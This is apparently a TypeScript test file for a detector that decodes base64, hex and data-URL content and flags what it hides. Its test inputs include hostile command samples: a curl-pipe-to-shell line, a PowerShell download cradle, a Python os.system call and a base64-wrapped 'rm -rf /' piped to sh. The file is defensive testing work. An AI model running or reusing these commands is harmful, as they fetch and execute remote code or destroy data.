import { describe, expect, it } from 'vitest';
import { marksOf, previewOf, previewsOf } from '../../../../support/preview-call';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const secret = 'the quick brown fox jumps over';

it.each([
  ['base64', base64(secret)],
  [
    'base64',
    base64(secret)
      .replace(/=+$/, '')
      .replace(/(.{10})/g, '$1\n'),
  ],
  ['base64url', Buffer.from('??>>~~the quick brown fox').toString('base64url')],
  ['hex', Buffer.from(secret).toString('hex')],
  ['data-url', `data:text/plain;base64,${base64(secret)}`],
  ['data-url', `data:text/plain,${encodeURIComponent(secret)}`],
])('shows what is inside: %s', async (encoding, data) => {
  const preview = await previewOf('encoded', { data });
  expect(preview.encoding).toBe(encoding);
  expect(preview.text).toContain('the quick brown fox');
});

it('decodes what is encoded twice, and warns of what is encoded more often', async () => {
  const twice = await previewOf('encoded', { data: base64(base64(secret)) });
  expect(twice.text).toBe(secret);
  expect(marksOf(twice, 'medium')).toContain('Encoded twice: what stands in the second is shown');
  const thrice = await previewOf('encoded', { data: base64(base64(base64(secret))) });
  expect(marksOf(thrice, 'high')).toContain('Encoded more than twice');
});

it.each([
  ['#!/bin/sh\ncurl -s x | sh\n', 'A shell script inside'],
  ['<html><script>alert(1)</script></html>', 'A script for a page inside'],
  ['IEX (New-Object Net.WebClient).DownloadString("x")', 'A PowerShell script inside'],
  ['__import__("os").system("id")', 'Code that runs other code inside'],
  ['-----BEGIN RSA PRIVATE KEY-----\nabc', 'A private key inside'],
])('warns of %j', async (text, mark) => {
  expect(marksOf(await previewOf('encoded', { data: base64(text) }), 'high')).toContain(mark);
});

it('reads the text of an encoded PowerShell command', async () => {
  const data = Buffer.from('Invoke-Expression $x', 'utf16le').toString('base64');
  expect((await previewOf('encoded', { data })).text).toBe('Invoke-Expression $x');
});

it.each([
  [
    Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(30, 9)]),
    'application/x-executable',
    'A program inside',
  ],
  [Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.alloc(30, 9)]), 'application/zip', null],
  [Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(30, 9)]), 'image/png', null],
])('knows media by their first bytes', async (bytes, mediaType, mark) => {
  const preview = await previewOf('encoded', { data: bytes.toString('base64') });
  expect(preview).toMatchObject({ mediaType, text: null, bytes: bytes.length });
  expect(marksOf(preview, 'high')).toEqual(mark ? [mark] : []);
});

it('finds an encoded word inside of a command', async () => {
  const word = base64('#!/bin/sh\nrm -rf / # and so on, and so on');
  const { previews } = await previewsOf({ command: `echo ${word} | base64 -d | sh` });
  expect(previews.find(({ kind }) => kind === 'encoded')).toMatchObject({ text: expect.stringContaining('rm -rf /') });
});

it.each([
  'da39a3ee5e6b4b0d3255bfef95601890afd80709',
  'src/components/button/index',
  'the-quick-brown-fox-jumps-over-it',
  '123456789012345678901234567890',
  '550e8400-e29b-41d4-a716-446655440000',
  'ThisIsAVeryLongCamelCaseIdentifier',
])('takes %s for what it is', async (data) => {
  expect((await previewsOf({ data })).previews).toEqual([]);
});

describe('what counts as encoded', () => {
  const kindOf = async (data: string) => {
    const [preview] = (await previewsOf({ data })).previews.filter(({ kind }) => kind === 'encoded');
    return preview?.kind === 'encoded' ? preview.encoding : null;
  };
  const url = 'data:text/plain;charset=utf-8,hello%20you';

  it.each([
    [base64('the quick brown fo'), 'base64'],
    [base64('the quick brown'), null],
    [`${base64('the quick brown fox')}\n`, 'base64'],
    [`${base64('the quick brown fox')}=`, null],
    [base64('the quick brown fox').replace('=', ''), 'base64'],
    [`${base64('the quick brown fox')}`.replace(/=+$/, 'A'), 'base64'],
    [`${base64('the quick brown fo')}A`, null],
    [`0x${Buffer.from('the quick bro').toString('hex')}`, 'hex'],
    [`0X${Buffer.from('the quick bro').toString('hex').toUpperCase()}`, 'hex'],
    [Buffer.from('the quick br').toString('hex'), 'hex'],
    [`${Buffer.from('the quick brown').toString('hex')}0`, null],
    [Buffer.from('????????~~~~~~~~~~~').toString('base64url'), 'base64url'],
    ['----------------------------------', null],
    ['1234-5678-1234-5678-1234-5678', null],
    [url, 'data-url'],
    [`x${url}`, null],
    [url.toUpperCase(), 'data-url'],
    ['data:,hello you, and everybody', 'data-url'],
    ['data:hello you, and everybody else', null],
  ])('%s: %s', async (data, encoding) => {
    expect(await kindOf(data)).toBe(encoding);
  });

  it('is not what is longer than 2 MB of text', async () => {
    expect(await kindOf('QUJD'.repeat(512 * 1024))).toBe('base64');
    expect(await kindOf(`QUJD${'QUJD'.repeat(512 * 1024)}`)).toBeNull();
  });
});

describe('an address that holds data', () => {
  it.each([
    ['data:,a%20plain%20text,%20it%20is', 'a plain text, it is', 'text/plain'],
    ['data:text/HTML,<p>some words here</p>', '<p>some words here</p>', 'text/html'],
    ['data:text/plain,100%%20of%20the%20words', '100%%20of%20the%20words', 'text/plain'],
    [`data:text/plain;charset=utf-8;base64,${base64('some words')}`, 'some words', 'text/plain'],
    [`data:text/plain;BASE64,${base64('some words')}`, 'some words', 'text/plain'],
    ['data:text/plain;base64=no,c29tZSB3b3Jkcw', 'c29tZSB3b3Jkcw', 'text/plain'],
    [`data:text/plain;base64,${Buffer.from('25504446ff', 'hex').toString('base64')}`, null, 'application/pdf'],
  ])('%s', async (data, text, mediaType) => {
    expect(await previewOf('encoded', { data })).toMatchObject({ encoding: 'data-url', text, mediaType });
  });

  it('may hold nothing at all', async () => {
    const preview = await previewOf('encoded', { data: 'data:text/plain;charset=utf-8,' });
    expect(preview).toMatchObject({ text: null, mediaType: 'text/plain', bytes: 0, marks: [] });
  });

  it('is judged by the type that it gives itself', async () => {
    const preview = await previewOf('encoded', { data: 'data:image/svg+xml;utf8,<svg></svg>' });
    expect(marksOf(preview, 'high')).toEqual(['A page or script inside']);
  });
});

describe('several layers', () => {
  it('keep the type that is known last', async () => {
    const inner = `data:text/html;base64,${base64('<p>one two three</p>')}`;
    const preview = await previewOf('encoded', { data: base64(inner) });
    expect(preview).toMatchObject({ encoding: 'base64', mediaType: 'text/html', text: '<p>one two three</p>' });
    expect(preview.bytes).toBe(inner.length);
    const outer = await previewOf('encoded', { data: `data:text/css,${base64('a { color: red } b { }')}` });
    expect(outer).toMatchObject({ mediaType: 'text/css', text: 'a { color: red } b { }' });
  });

  it('are looked into only where the text is long enough to be encoded', async () => {
    const preview = await previewOf('encoded', { data: base64('YWJjZGVmZ2hpamtsbW5vcHFy'.slice(0, 23)) });
    expect(preview).toMatchObject({ text: 'YWJjZGVmZ2hpamtsbW5vcHF', marks: [] });
  });

  it('show the second where there are three', async () => {
    const preview = await previewOf('encoded', { data: base64(base64(base64(secret))) });
    expect(preview.text).toBe(base64(secret));
    expect(marksOf(preview)).toEqual(['Encoded more than twice', 'Encoded twice: what stands in the second is shown']);
  });
});

it('says what the decoded text hides', async () => {
  const preview = await previewOf('encoded', { data: base64(`ok${' '.repeat(300)}rm`) });
  expect(marksOf(preview, 'high')).toEqual(['More text after 300 blank characters']);
});

it('shows the first 20,000 characters of what is inside', async () => {
  const whole = await previewOf('encoded', { data: base64('a b '.repeat(5000)) });
  expect(whole.text).toHaveLength(20_000);
  expect(marksOf(whole)).toEqual([]);
  const cut = await previewOf('encoded', { data: base64(`x${'a b '.repeat(5000)}`) });
  expect(cut.text).toHaveLength(20_000);
  expect(marksOf(cut)).toEqual(['Shows the beginning of 20,001 characters']);
});

describe('pieces of a longer text', () => {
  const word = base64('some words that are encoded here');
  const piecesOf = async (text: string) =>
    (await previewsOf({ text })).previews.filter((preview) => preview.kind === 'encoded');

  it('are shown with their beginning', async () => {
    const [piece, ...others] = await piecesOf(`echo ${word} | base64 -d`);
    expect(others).toEqual([]);
    expect(piece).toMatchObject({ argument: 'text', text: 'some words that are encoded here' });
    expect(piece && marksOf(piece)).toEqual([`Stands in the text: ${word.slice(0, 24)}… (${word.length} characters)`]);
  });

  it('may be addresses', async () => {
    const [piece] = await piecesOf('url("data:text/html;x=y,<b>some words that are here")');
    expect(piece).toBeUndefined();
    const [other] = await piecesOf('url("data:text/html;x=y,some%20words%20that%20are%20here")');
    expect(other).toMatchObject({ encoding: 'data-url', text: 'some words that are here', mediaType: 'text/html' });
  });

  it('of less than forty characters are none', async () => {
    const long = Buffer.from('some words that are encode').toString('hex').slice(0, 52);
    expect(await piecesOf(`x ${base64('some words that are encoded he')} y`)).toHaveLength(1);
    expect(await piecesOf(`x ${base64('some words that are encoded').slice(0, 36)} y`)).toEqual([]);
    expect(await piecesOf(`x ${long} y`)).toHaveLength(1);
  });

  it('are shown five at most, and names among them are passed over', async () => {
    const name = 'ThisIsAVeryLongCamelCaseIdentifierThatMeansNothing';
    expect(await piecesOf(Array.from({ length: 9 }, () => `${name} ${word}`).join(' '))).toHaveLength(5);
  });

  it('are not sought in texts of more than 256 KB', async () => {
    const rest = ' '.repeat(256 * 1024 - word.length);
    expect(
      await piecesOf(word.replace(/=+$/, '') + rest + '='.repeat(word.length - word.replace(/=+$/, '').length)),
    ).toHaveLength(1);
    expect(await piecesOf(`${word} ${rest}.`)).toEqual([]);
  });
});
